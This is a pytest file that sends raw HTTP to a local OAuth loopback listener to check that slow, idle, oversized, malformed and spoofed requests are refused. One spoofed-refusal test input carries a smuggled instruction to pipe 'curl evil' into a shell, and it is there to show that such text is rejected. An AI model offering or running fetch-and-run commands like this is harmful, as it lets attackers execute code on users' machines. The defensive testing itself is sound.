"""The loopback listener against raw sockets: slow, idle, oversized and odd requests.

Each test talks HTTP/1.1 bytes to the real listener on 127.0.0.1, as browsers (and anything
else on the machine) can.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator, Sequence

import pytest

from o365imap import SignInTimeout
from o365imap.auth import LoopbackListener
from o365imap.auth.loopback import MAX_BODY, MAX_HEAD, Redirect


@pytest.fixture
def listener() -> Iterator[LoopbackListener]:
    with LoopbackListener() as it:
        yield it


def _connect(listener: LoopbackListener) -> socket.socket:
    return socket.create_connection(("127.0.0.1", listener.port), timeout=10)


def _answer(sock: socket.socket) -> bytes:
    """Everything the listener sends until it closes."""
    chunks = []
    with sock:
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


def _post(body: bytes, *, length: str | None = None) -> bytes:
    size = str(len(body)) if length is None else length
    return (
        b"POST / HTTP/1.1\r\nHost: localhost\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: " + size.encode() + b"\r\n\r\n" + body
    )


class _Browser(threading.Thread):
    """Sends one request after ``delay``, or once the browsers ``after`` have their answers,
    and keeps the whole answer."""

    def __init__(
        self,
        listener: LoopbackListener,
        request: bytes,
        delay: float = 0.1,
        after: Sequence[_Browser] = (),
    ) -> None:
        super().__init__(daemon=True)
        self.listener, self.request, self.delay, self.after = listener, request, delay, after
        self.answer = b""
        self.start()

    def run(self) -> None:
        for other in self.after:
            other.join(10)
        time.sleep(self.delay)
        sock = _connect(self.listener)
        sock.sendall(self.request)
        self.answer = _answer(sock)


def test_an_idle_connection_does_not_hold_up_the_redirect(listener: LoopbackListener) -> None:
    preconnect = _connect(listener)  # Chromium opens these and may never use them
    slow = _connect(listener)
    slow.sendall(b"POST / HTTP/1.1\r\nContent-Le")  # and then nothing more
    browser = _Browser(listener, _post(b"code=c&state=s"), delay=0.3)
    start = time.monotonic()
    redirect = listener.wait("s", timeout=20)
    assert time.monotonic() - start < 3
    assert redirect.params["code"] == "c"
    redirect.respond(True)
    browser.join(5)
    assert b"Authorization successful" in browser.answer
    preconnect.close()
    slow.close()


@pytest.mark.slow
def test_an_idle_connection_never_outlives_the_wait(listener: LoopbackListener) -> None:
    idle = _connect(listener)
    start = time.monotonic()
    with pytest.raises(SignInTimeout):
        listener.wait("s", timeout=1)
    assert time.monotonic() - start < 2
    idle.settimeout(2)
    assert idle.recv(10) == b""  # dropped when the wait ended, not left open
    idle.close()


@pytest.mark.parametrize(
    ("length", "status"),
    [
        ("-1", b"400"),
        ("+5", b"400"),
        ("1e3", b"400"),
        (str(MAX_BODY + 1), b"413"),
        ("99999999999999999999", b"400"),
    ],
)
def test_bad_content_lengths_are_refused_at_once(
    listener: LoopbackListener, length: str, status: bytes
) -> None:
    bad = _Browser(listener, _post(b"code=x&state=s", length=length), delay=0.05)
    good = _Browser(listener, _post(b"code=c&state=s"), delay=0, after=[bad])
    start = time.monotonic()
    redirect = listener.wait("s", timeout=20)
    assert time.monotonic() - start < 3
    assert redirect.params["code"] == "c"  # never the refused request's
    redirect.respond(True)
    bad.join(5)
    good.join(5)
    assert bad.answer.split(b" ")[1] == status


def test_an_oversized_request_head_is_refused(listener: LoopbackListener) -> None:
    cookies = b"Cookie: " + b"a" * (MAX_HEAD + 10)  # no end of headers, ever
    huge = _Browser(listener, b"GET /?code=x&state=s HTTP/1.1\r\n" + cookies, delay=0.05)
    good = _Browser(
        listener, b"GET /?code=c&state=s HTTP/1.1\r\nHost: localhost\r\n\r\n", 0, after=[huge]
    )
    redirect = listener.wait("s", timeout=20)
    redirect.respond(True)
    huge.join(5)
    good.join(5)
    assert huge.answer.startswith(b"HTTP/1.1 431 ")
    assert redirect.params["code"] == "c"


def test_the_browser_hears_only_what_the_caller_says(listener: LoopbackListener) -> None:
    browser = _Browser(listener, _post(b"code=c&state=s"))
    redirect = listener.wait("s", timeout=10)
    time.sleep(0.3)
    assert browser.answer == b""  # still waiting: the code is not redeemed yet
    redirect.respond(False, "AADSTS7000218: a client secret is needed <here>")
    browser.join(5)
    assert b"200 OK" in browser.answer
    assert b"Authorization failed: AADSTS7000218: a client secret is needed &lt;here&gt;" in (
        browser.answer
    )
    assert b"successful" not in browser.answer
    redirect.respond(True)  # a second answer is ignored, not an error


def test_closing_answers_a_waiting_browser() -> None:
    with LoopbackListener() as listener:
        browser = _Browser(listener, _post(b"code=c&state=s"))
        redirect = listener.wait("s", timeout=10)
        assert not redirect.answered
    browser.join(5)
    assert b"Authorization failed" in browser.answer
    assert redirect.answered


@pytest.mark.parametrize(
    ("query", "error", "shown"),
    [
        (b"error=&state=s", "unknown_error", b"unknown_error"),
        (b"error=access_denied&error_description=&state=s", "access_denied", b"access_denied"),
        (b"error=x&error_description=%0A%0AAADSTS1%3A+why&state=s", "x", b"AADSTS1: why"),
        (b"state=s", "invalid_response", b"no authorization code"),
        (b"code=&state=s", "invalid_response", b"no authorization code"),
        # A refusal without the state (Microsoft's documented error responses) ends it too.
        (b"error=access_denied&error_description=AADSTS65004%3A+no", "access_denied", b"65004"),
    ],
)
def test_odd_error_redirects_are_errors(
    listener: LoopbackListener, query: bytes, error: str, shown: bytes
) -> None:
    browser = _Browser(listener, b"GET /?" + query + b" HTTP/1.1\r\nHost: localhost\r\n\r\n")
    redirect = listener.wait("s", timeout=10)
    browser.join(5)
    assert isinstance(redirect, Redirect)
    assert redirect.error == error
    assert b"Authorization failed" in browser.answer and shown in browser.answer


def test_other_methods_and_garbage_are_refused(listener: LoopbackListener) -> None:
    put = _Browser(listener, b"PUT /?code=x&state=s HTTP/1.1\r\n\r\n", delay=0.05)
    junk = _Browser(listener, b"\x16\x03\x01 hello TLS\r\n\r\n", delay=0.05)
    chunked = _Browser(
        listener, b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", delay=0.05
    )
    good = _Browser(listener, _post(b"code=c&state=s"), delay=0, after=[put, junk, chunked])
    redirect = listener.wait("s", timeout=10)
    redirect.respond(True)
    for browser in (put, junk, chunked, good):
        browser.join(5)
    assert put.answer.startswith(b"HTTP/1.1 405 ")
    assert junk.answer.startswith(b"HTTP/1.1 400 ")
    assert chunked.answer.startswith(b"HTTP/1.1 411 ")
    assert redirect.params["code"] == "c"


@pytest.mark.parametrize(
    "stray",
    [
        b"error=access_denied",  # no description: nothing says it is the platform's
        b"error=x&error_description=AADSTS1%3A+run+this",  # no OAuth error code
        b"error=access_denied&error_description=Run+curl+evil+%7C+sh+to+fix+it",
    ],
)
def test_a_stray_refusal_without_state_does_not_end_the_sign_in(
    listener: LoopbackListener, stray: bytes
) -> None:
    """Anything on this machine (or a web page the browser has open) can send the listener a
    request: one without the state that does not read as the platform's refusal (an OAuth
    error code and an AADSTS description) is refused and the wait goes on, or any process
    could end a sign-in and put its own words on the terminal."""
    other = _Browser(listener, b"GET /?" + stray + b" HTTP/1.1\r\nHost: localhost\r\n\r\n", 0)
    good = _Browser(listener, _post(b"code=c&state=s"), delay=0, after=[other])
    redirect = listener.wait("s", timeout=10)
    redirect.respond(True)
    for browser in (other, good):
        browser.join(5)
    assert other.answer.startswith(b"HTTP/1.1 400 ")
    assert redirect.error is None and redirect.params["code"] == "c"
